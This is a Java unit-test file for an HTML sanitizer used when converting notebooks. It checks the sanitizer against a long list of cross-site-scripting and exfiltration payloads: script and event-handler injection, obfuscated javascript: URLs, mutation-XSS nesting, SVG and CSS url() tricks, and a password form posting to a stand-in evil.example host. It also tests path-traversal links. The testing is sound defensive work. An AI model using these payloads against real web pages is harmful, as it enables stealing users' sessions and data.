package io.smallfry.notebook.convert;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Objects;
import org.jspecify.annotations.Nullable;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

final class HtmlCleanerTest {
  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>steal()</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<iframe src='https://evil.example'></iframe>",
        "<object data='https://evil.example'></object><embed src='https://evil.example'>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href='https://evil.example/'>",
        "<link rel=stylesheet href='https://evil.example/x.css'>",
        "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
        "<noscript><p title=\"</noscript><img src=x onerror=steal()>\"></noscript>",
        "<template><img src=x onerror=steal()></template>",
        "<math><mtext><table><mglyph><style><img src=x onerror=steal()>",
        "<form action='https://evil.example'><input name=password><button>Go</button></form>",
        "<p style=\"background:url('https://evil.example/x')\">x</p>",
        "<p style='position:fixed;inset:0;z-index:9'>x</p>",
        "<p style='color:red;background-image:image-set(\"https://evil.example/x\" 1x)'>x</p>",
        "<p style='width:expression(steal())'>x</p>",
        "<p style='background:u\\72l(https://evil.example/x)'>x</p>",
        "<img src='https://evil.example/pixel.png'>",
        "<img src=x onerror=steal()>",
        "<img srcset='https://evil.example/x 1x'>",
        "<table background='https://evil.example/x'><tr><td>x</td></tr></table>",
        "<video poster='https://evil.example/x'><source src='https://evil.example/y'></video>",
        "<b onclick=steal() onmouseover='steal()'>x</b>",
        "<a href='javascript:steal()'>x</a>",
        "<a href=' jAvA\tscript:steal()'>x</a>",
        "<a href='&#106;avascript&colon;steal()'>x</a>",
        "<a href='data:text/html,<script>steal()</script>'>x</a>",
        "<a href='vbscript:steal()'>x</a>",
        "<a href='//evil.example'>x</a>",
        "<a href='/\\evil.example'>x</a>",
        "<a ping='https://evil.example' href='#x'>x</a>",
        "<svg><script>steal()</script></svg>",
        "<svg onload=steal()><rect onclick='steal()'/></svg>",
        "<svg><foreignObject><iframe src='https://evil.example'></iframe></foreignObject></svg>",
        "<svg><image href='https://evil.example/x.png'/><use xlink:href='https://evil.example/#x'/></svg>",
        "<svg><a href='javascript:steal()'><text>x</text></a></svg>",
        "<svg><animate attributeName=href values='javascript:steal()'/></svg>",
        "<img src='data:image/svg+xml,<svg onload=steal()><script>steal()</script></svg>'>",
        "<img src='data:image/svg+xml;utf8,%3Csvg%3E%3Cscript%3Esteal()%3C/script%3E%3C/svg%3E'>",
        "<img src='DATA:image/SVG+xml;base64,PHN2Zz48c2NyaXB0PnN0ZWFsKCk8L3NjcmlwdD48L3N2Zz4='>",
        "<img src='data:image/svg+xml;base64,PHN2Zz4*'>",
        "<img src='data:image/svg+xml;base64,A'>",
        "<svg><image href='data:image/svg+xml,<svg onload=steal()>'/></svg>",
      })
  void nothingRunsAndNothingLoads(String html) {
    String clean = HtmlCleaner.clean(html, null).html();
    assertThat(clean).as(html).doesNotContainIgnoringCase("evil").doesNotContain("steal");
    assertThat(clean).doesNotContainIgnoringCase("script");
    for (String svg : pictures(clean)) {
      assertThat(svg)
          .as(html)
          .doesNotContain("steal")
          .doesNotContain("evil")
          .doesNotContainIgnoringCase("script");
    }
  }

  @Test
  void brokenTagsDontBecomeWholeOnes() {
    assertThat(HtmlCleaner.clean("<scr<script>ipt>x()</scr</script>ipt>", null).html())
        .doesNotContain("<");
  }

  private static java.util.List<String> pictures(String html) {
    return org.jsoup.Jsoup.parse(html).select("img[src^=data:image/svg]").stream()
        .map(image -> image.attr("src"))
        .map(address ->
            new String(
                Base64.getDecoder().decode(address.substring(address.indexOf(',') + 1)),
                StandardCharsets.UTF_8))
        .toList();
  }

  /** Whoever saves the picture and opens it has a document, not an image. */
  @Test
  void aSavedSvgRunsAndLoadsNothing() {
    String svg =
        "<svg xmlns='http://www.w3.org/2000/svg' xmlns:s='http://www.w3.org/2000/svg'>"
            + "<s:script>steal()</s:script><S:foreignObject>steal()</S:foreignObject>"
            + "<style>@import url(https://evil.example/x.css);</style>"
            + "<style>.a { fill: url( 'https://evil.example/y') }</style>"
            + "<style>.b { fill: url(#inside) }</style>"
            + "<rect style='fill:url(https://evil.example/z)' fill='url(#inside)'/>"
            + "<s:a href='javascript:steal()'><text>kept</text></s:a></svg>";
    String address = Objects.requireNonNull(Picture.address(Picture.SVG, svg));
    byte[] bytes = Base64.getDecoder().decode(address.substring(address.indexOf(',') + 1));
    assertThat(new String(bytes, StandardCharsets.UTF_8))
        .doesNotContainIgnoringCase("script")
        .doesNotContain("steal", "evil")
        .contains("kept", "fill=\"url(#inside)\"", ".b { fill: url(#inside) }");
  }

  @Test
  void harmlessHtmlStays() {
    String html =
        "<div id=\"a\"><p>Text <b>bold</b> <a href=\"#a\">up</a><br><code>x</code></p>"
            + "<ul><li>one</li></ul><details><summary>More</summary>less</details></div>";
    assertThat(HtmlCleaner.clean(html, null).html()).isEqualTo(html);
  }

  @Test
  void linksToTheWebTellNothing() {
    assertThat(HtmlCleaner.clean("<a href='https://example.org/?a=b:c'>x</a>", null).html())
        .isEqualTo(
            "<a href=\"https://example.org/?a=b:c\" rel=\"noopener noreferrer nofollow\">x</a>");
    assertThat(HtmlCleaner.clean("<a href='mailto:a@b'>x</a>", null).html()).contains("mailto:a@b");
    assertThat(HtmlCleaner.clean("<a href='other.html#a:b'>x</a>", null).html())
        .contains("other.html");
  }

  /** A report that is served from elsewhere than its files. */
  @Test
  void linksToFilesBesideGetTheBase() {
    assertThat(linked("data/a b.csv?x=../y#z", "/files/r/"))
        .contains("/files/r/data/a b.csv?x=../y#z");
    assertThat(linked("./sub/../other.ipynb", "/files/r/")).contains("\"/files/r/other.ipynb\"");
    for (String other : new String[] {"https://example.org/a", "/lab", "mailto:a@b", "?a=b"}) {
      assertThat(linked(other, "/files/r/")).contains("href=\"" + other + "\"");
    }
    for (String out : new String[] {"../x", "a/../../x", "%2e%2E/x", "..\\x", ".%2e/.."}) {
      assertThat(linked(out, "/files/r/")).as(out).isEqualTo("<a>x</a>");
    }
    assertThat(linked("../x.html", null)).contains("href=\"../x.html\"");
  }

  private static String linked(String target, @Nullable String base) {
    return HtmlCleaner.clean("<a href='" + target + "'>x</a>", base).html();
  }

  /** The page's head links to cells; no output may take their names. */
  @Test
  void noAnchorIsTakenForACell() {
    assertThat(HtmlCleaner.clean("<p id='cell-1'>x</p><a href='#cell-1'>y</a>", null).html())
        .isEqualTo("<p id=\"own-cell-1\">x</p><a href=\"#own-cell-1\">y</a>");
    assertThat(HtmlCleaner.clean("<p id='own-cell-1'>x</p>", null).html())
        .contains("own-own-cell-1");
    assertThat(MarkdownHtml.of("# cell 2\n\n[up](#cell-2)", null, null))
        .contains("<h1 id=\"own-cell-2\">", "href=\"#own-cell-2\"");
  }

  @Test
  void aDrawingInAnAddressIsCleaned() {
    String clean =
        HtmlCleaner.clean(
                "<img alt=a src=\"data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg'>"
                    + "<script>steal()</script><text>100%25</text></svg>\">",
                null)
            .html();
    assertThat(pictures(clean)).singleElement().asString().contains("100%").doesNotContain("steal");
  }

  @Test
  void picturesThatComeWithTheNotebookStay() {
    String png = "<img src=\"data:image/png;base64,iVBORw0=\" alt=\"a\">";
    assertThat(HtmlCleaner.clean(png, null).html()).isEqualTo(png);
    assertThat(HtmlCleaner.clean("<img src='data:text/html;base64,AAAA'>", null).html())
        .contains("not loaded")
        .doesNotContain("data:");
    assertThat(HtmlCleaner.clean("<img src='https://x/y.png' alt='Plot'>", null).html())
        .contains("[Plot: from elsewhere, not loaded]");
  }

  /** As pandas' Styler writes it. */
  @Test
  void stylesOfIdsMoveIntoTheirElements() {
    String html =
        "<style type='text/css'>#T_1_row0_col0, #T_1_row1_col0 { background-color: #08306b; color: #f1f1f1; }"
            + " #T_1 th { font-weight: bold; } body { display: none; }</style>"
            + "<table id='T_1'><tr><th>h</th><td id='T_1_row0_col0'>1</td></tr></table>";
    assertThat(HtmlCleaner.clean(html, null).html())
        .contains("style=\"background-color:#08306b;color:#f1f1f1;\"")
        .contains("<th style=\"font-weight:bold;\">")
        .doesNotContain("display");
  }

  @Test
  void aGroundThatWasChosenForDarkLettersKeepsThem() {
    assertThat(StyleFilter.clean("background: yellow"))
        .isEqualTo("background:yellow;color:#1b1f24;");
    assertThat(
            StyleFilter.clean("background:linear-gradient(90deg, #d65f5f 50.0%, transparent 50%)"))
        .startsWith("background:linear-gradient");
    assertThat(StyleFilter.clean("color: var(--x); display: grid; margin: -9px")).isEmpty();
  }

  @Test
  void whatOnlyRanLeavesNothing() {
    HtmlCleaner.Clean clean =
        HtmlCleaner.clean("<div id='plot'></div><script>draw()</script>", null);
    assertThat(clean.isEmpty()).isTrue();
    assertThat(clean.isInteractive()).isTrue();
  }

  @ParameterizedTest
  @ValueSource(strings = {"script", "iframe", "video", "button", "textarea", "canvas"})
  void whatIsMissedIsToldOf(String element) {
    HtmlCleaner.Clean clean =
        HtmlCleaner.clean("<p>Text</p><" + element + ">x</" + element + ">", null);
    assertThat(clean.isInteractive()).isTrue();
    assertThat(clean.html()).isEqualTo("<p>Text</p>");
  }

  @Test
  void deepNestingIsNoTrouble() {
    assertThat(HtmlCleaner.clean("<div>".repeat(50_000) + "x", null).html()).contains("x");
    assertThat(HtmlCleaner.clean("<svg>" + "<g>".repeat(20_000) + "</svg>", null).html())
        .contains("img");
    assertThat(MarkdownHtml.of("> ".repeat(20_000) + "x", null, null)).contains("x");
    assertThat(MarkdownHtml.of("*a **b ".repeat(20_000), null, null)).contains("a");
    assertThat(MarkdownHtml.of("[".repeat(50_000), null, null)).contains("[");
    assertThat(MarkdownHtml.of("- ".repeat(5_000) + "x", null, null)).contains("x");
  }
}
